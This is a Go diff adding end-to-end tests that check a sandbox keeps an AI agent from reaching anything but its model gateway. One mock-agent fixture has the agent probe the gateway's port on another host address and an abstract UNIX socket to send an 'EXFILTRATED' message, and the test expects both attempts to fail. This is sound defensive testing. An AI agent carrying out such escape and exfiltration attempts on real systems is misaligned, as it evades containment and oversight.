@@ -1,10 +1,15 @@
 package e2e_test
 
 import (
+	"errors"
 	"fmt"
+	"io"
+	"net"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
+	"syscall"
 	"testing"
 
 	json "github.com/go-json-experiment/json/v1"
@@ -306,7 +311,12 @@ func TestGatewayNoSecrets(t *testing.T) {
 
 // TestGatewaySandbox: with the sandbox's network off, the agent reaches
 // its model through the gateway, and nothing else: a direct connection to
-// the upstream fails.
+// the upstream fails. Under bubblewrap the agent keeps a network namespace
+// of its own, the gateway reached through a relay inside: a listener on
+// another address of the host, on the gateway's port, gets nothing, nor
+// does an abstract UNIX socket of the host's, and the results record no
+// port. Under Landlock alone the gateway's port is open on every address:
+// the results record it, and a warning says so.
 func TestGatewaySandbox(t *testing.T) {
 	t.Parallel()
 	up := testkit.NewAnthropicServer(t)
@@ -325,14 +335,149 @@ func TestGatewaySandbox(t *testing.T) {
 			if res.code != exitOK || r.Gateway == nil || r.Gateway.Requests != 1 {
 				t.Fatalf("exit %d, gateway %+v\n%s", res.code, r.Gateway, res.stderr)
 			}
-			if r.Sandbox == nil || r.Sandbox.Network != "off" {
-				t.Errorf("sandbox %+v, want network off", r.Sandbox)
-			}
 			if text := r.Turns[1].Text; !strings.HasPrefix(text, "connect: error: ") {
 				t.Errorf("a direct connection to the upstream: %q, want it refused", text)
 			}
+			if bwrap {
+				if r.Sandbox == nil || r.Sandbox.Network != "off" || len(r.Sandbox.Ports) > 0 || strings.Contains(strings.Join(r.Warnings, "\n"), "sandbox") {
+					t.Errorf("sandbox %+v, warnings %q; want network off, no port, no sandbox warning", r.Sandbox, r.Warnings)
+				}
+				return
+			}
+			if r.Sandbox == nil || r.Sandbox.Network != "off" || len(r.Sandbox.Ports) != 1 {
+				t.Fatalf("sandbox %+v, want network off and the gateway's port", r.Sandbox)
+			}
+			port := fmt.Sprint(r.Sandbox.Ports[0])
+			want := "s.yaml:3:10: sandbox network off: Landlock alone cannot filter by address, so the loopback port " + port +
+				" is open on every host, not only on the loopback interface (bubblewrap (ACPRUN_TEST_NO_BWRAP=1) keeps the agent to acprun's port)"
+			if !slices.Contains(r.Warnings, want) || !strings.Contains(res.stderr, want) {
+				t.Errorf("warnings %q, want %q (on stderr too)", r.Warnings, want)
+			}
 		})
 	}
+}
+
+// TestGatewaySandboxReachesNothingElse: the tester's case, under
+// bubblewrap. The agent learns the gateway's port from its base URL and
+// sends a message to that port on another address of the host (standing
+// for an attacker's server listening on every port), and to an abstract
+// UNIX socket of the host's: neither gets anything, while its model
+// request goes through. The agent hands the port over a FIFO and waits
+// on another for the listener to be up.
+func TestGatewaySandboxReachesNothingElse(t *testing.T) {
+	t.Parallel()
+	ip := hostIPv4(t)
+	dial, err := testkit.Build("./testdata/dial")
+	if err != nil {
+		t.Fatal(err)
+	}
+	up := testkit.NewAnthropicServer(t)
+	dir := realTempDir(t)
+	env := needSandbox(t, true, realTempDir(t))
+	for _, f := range []string{"port.fifo", "go.fifo"} {
+		if err := syscall.Mkfifo(filepath.Join(dir, f), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	abstract := fmt.Sprintf("@acprun-e2e-%d", os.Getpid())
+	al, err := net.Listen("unix", abstract)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer al.Close()
+	writeFiles(t, dir, map[string]string{
+		"agent.mock.yaml": `turns:
+  - steps:
+      - model: {api: anthropic, model: claude-test, prompt: hi}
+      - spawn: "P=${ANTHROPIC_BASE_URL#http://127.0.0.1:}; P=${P%%/*}; echo $P > port.fifo; read go < go.fifo; ` +
+			dial + ` tcp ` + ip + `:$P EXFILTRATED; ` + dial + ` unix ` + abstract + ` VIA-ABSTRACT"
+`,
+		"s.yaml": fmt.Sprintf("name: g\nagent: {command: [acprun, mock-agent, agent.mock.yaml]}\nsandbox: {network: off}\n"+
+			"gateway: {mode: meter, env: ANTHROPIC_BASE_URL, upstream: %q}\nturns:\n  - prompt: one\n    expect: {text: {contains: %q}}\n", up.URL, testkit.SideText),
+	})
+	// The listener on the gateway's port, once the agent has said it.
+	listening := make(chan net.Listener, 1)
+	go func() {
+		defer close(listening)
+		port, err := os.ReadFile(filepath.Join(dir, "port.fifo"))
+		if err != nil || len(port) == 0 {
+			return
+		}
+		l, err := net.Listen("tcp", net.JoinHostPort(ip, strings.TrimSpace(string(port))))
+		if err != nil {
+			t.Errorf("listen on the gateway's port on %s: %v", ip, err)
+		} else {
+			listening <- l
+		}
+		os.WriteFile(filepath.Join(dir, "go.fifo"), []byte("go\n"), 0o600)
+	}()
+	res, out := runSandboxed(t, dir, env, "s.yaml")
+	// Whatever happened, the goroutine's read of port.fifo ends.
+	if f, err := os.OpenFile(filepath.Join(dir, "port.fifo"), os.O_WRONLY|syscall.O_NONBLOCK, 0); err == nil {
+		f.Close()
+	}
+	l := <-listening
+	if l == nil {
+		t.Fatalf("the agent did not say the gateway's port: exit %d\n%s", res.code, res.stderr)
+	}
+	defer l.Close()
+	r := out.Scenarios[0]
+	if res.code != exitOK || r.Gateway == nil || r.Gateway.Requests != 1 {
+		t.Errorf("exit %d, gateway %+v; want 0 and the model request through the gateway\n%s", res.code, r.Gateway, res.stderr)
+	}
+	text := r.Turns[0].Text
+	for _, want := range []string{"network is unreachable", "dial " + abstract + ": dial unix " + abstract + ": connect: connection refused"} {
+		if !strings.Contains(text, want) {
+			t.Errorf("the agent said %q, want %q in it", text, want)
+		}
+	}
+	// What reached the listeners waits in their backlogs: nothing must.
+	for _, l := range []net.Listener{l, al} {
+		if got, ok := pending(t, l); ok {
+			t.Errorf("%s got a connection from the sandbox: %q", l.Addr(), got)
+		}
+	}
+}
+
+// pending accepts a connection waiting in l's backlog, without waiting for
+// one, and reads what it says; ok is false when none waits.
+func pending(t *testing.T, l net.Listener) (got string, ok bool) {
+	t.Helper()
+	rc, err := l.(syscall.Conn).SyscallConn()
+	if err != nil {
+		t.Fatal(err)
+	}
+	fd, aerr := -1, error(nil)
+	if err := rc.Control(func(lfd uintptr) { fd, _, aerr = syscall.Accept(int(lfd)) }); err != nil {
+		t.Fatal(err)
+	}
+	if errors.Is(aerr, syscall.EAGAIN) {
+		return "", false // the listener's socket does not block
+	}
+	if aerr != nil {
+		t.Fatal(aerr)
+	}
+	c := os.NewFile(uintptr(fd), "pending")
+	defer c.Close()
+	b, _ := io.ReadAll(c)
+	return string(b), true
+}
+
+// hostIPv4 is an IPv4 address of this host other than a loopback one;
+// the test is skipped when it has none.
+func hostIPv4(t *testing.T) string {
+	t.Helper()
+	addrs, err := net.InterfaceAddrs()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, a := range addrs {
+		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
+			return n.IP.String()
+		}
+	}
+	t.Skip("this host has no address but loopback ones")
+	return ""
 }
 
 // TestGatewayRecordPlantedLink: while its turn runs, the agent (whose cwd
